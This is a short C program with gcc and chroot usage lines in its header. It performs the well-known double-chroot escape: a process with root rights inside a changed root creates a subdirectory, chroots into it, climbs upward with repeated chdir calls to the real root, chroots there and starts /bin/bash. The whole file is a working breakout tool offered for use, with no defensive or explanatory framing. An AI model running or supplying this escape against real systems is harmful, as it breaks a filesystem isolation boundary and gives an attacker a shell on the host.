/* Walks out of a changed root, and starts a shell there. It takes no trick, only root's rights.
 *
 *   gcc -Wall -static -o /srv/small/escape escape.c
 *   chroot /srv/small /escape                                                                  */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **arguments) {
    (void)count;
    mkdir("/x", 0755); /* any directory below the root will do */
    if (chroot("/x") == -1) { /* the root moves down; the working directory stays above it */
        perror("escape: chroot");
        return 1;
    }
    for (int up = 0; up < 100; up++) {
        if (chdir("..") == -1) { /* up and up: the only stop would be our root, which is not on this way */
            perror("escape: chdir");
            return 1;
        }
    }
    if (chroot(".") == -1) { /* where no ".." leads further is the real root */
        perror("escape: chroot");
        return 1;
    }
    execv("/bin/bash", arguments);
    perror("escape: /bin/bash");
    return 127;
}
